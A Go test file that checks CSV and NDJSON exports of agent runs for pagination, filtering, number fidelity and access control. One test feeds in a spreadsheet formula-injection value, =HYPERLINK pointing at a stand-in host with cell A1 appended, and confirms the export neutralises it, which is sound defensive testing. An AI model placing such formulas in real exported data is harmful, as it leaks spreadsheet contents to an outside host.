package serve_test

import (
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"ao/coordinator/projection/query"
	"ao/shared/fault"
	"ao/shared/run"
)

// table is a list of runs as CSV: its columns by name, a map for each row.
func (s *stack) table(query string, headers ...string) []map[string]string {
	s.t.Helper()
	g := s.get("/runs?format=csv"+query, headers...)
	if g.status != 200 || g.header.Get("Content-Type") != "text/csv; charset=utf-8; header=present" ||
		g.header.Get("Content-Disposition") != `attachment; filename="runs.csv"` {
		s.t.Fatalf("%d %v %s", g.status, g.header, g.body)
	}
	all, err := csv.NewReader(strings.NewReader(g.body)).ReadAll()
	if err != nil {
		s.t.Fatalf("%v: %s", err, g.body)
	}
	var rows []map[string]string
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, name := range all[0] {
			row[name] = cells[i]
		}
		rows = append(rows, row)
	}
	return rows
}

// A list of runs as CSV has every run that matches, and digits stay as they were sent. No cell is a formula to a
// spreadsheet.
func TestRunsAsATable(t *testing.T) {
	t.Parallel()
	s := start(t)
	s.work(func(run.Queued) run.Outcome {
		return run.Outcome{Status: run.Failed, Error: fault.New(fault.Internal, "command_failed",
			"=HYPERLINK(\"http://x/?\"&A1)\r\n@x")}
	}, echo("tool"))
	s.post("/agents", `{"name":"nobodys","demands":{"tags":["none"]}}`).want(201)
	failed := s.submit(`{"agent_name":"tool","parameters":{"10":9223372036854775807,"2":0.10,"a":"x,\"y\""}}`)
	again := s.retry(failed.RunID, "")
	for _, id := range []string{failed.RunID, again.RunID} {
		s.until(id, run.Failed)
	}
	const many = 1100
	s.waiting(s.submit(`{"agent_name":"nobodys","prompt":"0"}`), many-1)
	large := s.submit(`{"agent_name":"nobodys","prompt":"` + strings.Repeat("x", 20_000) + `"}`)

	rows := s.table("&status=failed")
	if len(rows) != 2 || rows[0]["run_id"] != again.RunID || rows[0]["retry_of"] != failed.RunID ||
		rows[1]["retry_of"] != "" {
		t.Fatalf("%v", rows)
	}
	one := into[run.Run](s.get("/runs/"+failed.RunID), 200)
	for name, want := range map[string]string{
		"run_id": failed.RunID, "session_id": failed.SessionID, "agent_name": "tool", "status": "failed",
		"type": "start_session", "mode": "async_poll", "attempt": "1",
		// the reader makes \n of \r\n
		"runner_id": one.RunnerID, "error": "command_failed", "message": "'=HYPERLINK(\"http://x/?\"&A1)\n@x",
		"parameters": `{"10":9223372036854775807,"2":0.10,"a":"x,\"y\""}`, "parameters_omitted": "false",
		"parent_session_id": "",
	} {
		if got := rows[1][name]; got != want {
			t.Errorf("%s: got %q, want %q", name, got, want)
		}
	}
	for name, at := range map[string]string{"created_at": rows[1]["created_at"],
		"completed_at": rows[1]["completed_at"]} {
		if raw := s.get("/runs/" + failed.RunID).body; at == "" || !strings.Contains(raw, `"`+name+`":"`+at+`"`) {
			t.Errorf("%s is %q, the run is %s", name, at, raw)
		}
	}

	all := s.table("")
	var ids []string
	for _, row := range all {
		ids = append(ids, row["run_id"])
	}
	if len(all) != many+3 || all[0]["run_id"] != large.RunID || all[0]["parameters"] != "" ||
		all[0]["parameters_omitted"] != "true" ||
		!slices.IsSortedFunc(ids, func(a, b string) int { return strings.Compare(b, a) }) {
		t.Errorf("%d rows, first %v", len(all), all[0])
	}
	if some := s.table("&limit=700&agent_name=nobodys"); len(some) != 700 || some[699]["run_id"] != ids[699] ||
		some[699]["parameters"] != `{"prompt":"0"}` {
		t.Errorf("got %d rows, last %v; want 700, last %s", len(some), some[len(some)-1], ids[699])
	}
	page := into[query.Page](s.get("/runs?limit=1000"), 200)
	if rest := s.table("&cursor=" + page.Next); len(rest) != many+3-1000 {
		t.Errorf("%d rows follow a page", len(rest))
	}
	if found := s.table("&q=COMMAND_FAILED"); len(found) != 2 {
		t.Errorf("a search found %v", found)
	}
	if none := s.table("&agent_name=nobody"); len(none) != 0 {
		t.Errorf("%v", none)
	}
	for query, field := range map[string]string{"format=xls": "format", "format=csv&limit=100001": "limit",
		"format=csv&status=x": "status", "format=csv&cursor=x": "cursor"} {
		if m := s.get("/runs?" + query).want(400); m["field"] != field {
			t.Errorf("%s: %v", query, m)
		}
	}
	if m := s.get("/runs/count?format=csv").want(400); m["field"] != "format" {
		t.Errorf("%v", m)
	}
}

// TestRunsAsLinesOfJSON: each run that matches is a line, as lists show it, digit by digit.
func TestRunsAsLinesOfJSON(t *testing.T) {
	t.Parallel()
	s := start(t)
	s.post("/agents", `{"name":"nobodys","parameters_schema":{},"demands":{"tags":["none"]}}`).want(201)
	const many = 1100
	first := s.submit(`{"agent_name":"nobodys","parameters":{"prompt":"<0>","10":9223372036854775807,"2":0.10}}`)
	s.waiting(first, many-1)
	s.post("/agents", `{"name":"others","demands":{"tags":["none"]}}`).want(201)
	s.submit(`{"agent_name":"others","prompt":"x"}`)
	lines := func(query string) []string {
		g := s.get("/runs?format=ndjson&agent_name=nobodys" + query)
		if g.status != 200 || g.header.Get("Content-Type") != "application/x-ndjson" ||
			g.header.Get("Content-Disposition") != `attachment; filename="runs.ndjson"` {
			t.Fatalf("%d %v %.300s", g.status, g.header, g.body)
		}
		return strings.Split(g.body, "\n")
	}
	all := lines("")
	page := into[struct{ Runs []json.RawMessage }](s.get("/runs?limit=1000&agent_name=nobodys"), 200).Runs
	if len(all) != many || len(page) != 1000 {
		t.Fatalf("%d lines, and a page of %d", len(all), len(page))
	}
	for i, want := range page {
		if all[i] != string(want) {
			t.Fatalf("line %d is %s, want %s", i, all[i], want)
		}
	}
	if last := all[many-1]; !strings.Contains(last, `"parameters":{"prompt":"<0>","10":9223372036854775807,"2":0.10}`) {
		t.Errorf("%s", last)
	}
	if some := lines("&limit=7"); len(some) != 7 || some[6] != all[6] {
		t.Errorf("%d lines", len(some))
	}
}

// A table shows nobody more than the list does.
func TestTableHasOnlyReadableRuns(t *testing.T) {
	t.Parallel()
	s := secure(t)
	m := think(s.stack, s.admin)
	top := m.submit(`{"agent_name":"mind","prompt":"hold"}`, s.admin)
	mine := bearer(m.token(top.RunID))
	child := m.submit(`{"agent_name":"mind","prompt":"hold"}`, mine)
	m.submit(`{"agent_name":"mind","prompt":"hold"}`, s.admin)
	if rows := s.table("", mine); len(rows) != 1 || rows[0]["run_id"] != child.RunID {
		t.Errorf("a session reads %v", rows)
	}
	if rows := s.table("", s.read); len(rows) != 3 {
		t.Errorf("a reader reads %v", rows)
	}
	if g := s.get("/runs?format=ndjson", mine); strings.Count(g.body, "\n") != 0 ||
		!strings.Contains(g.body, child.RunID) {
		t.Errorf("a session reads %s", g.body)
	}
	s.get("/runs?format=csv").want(401)
	s.get("/runs?format=ndjson").want(401)
}
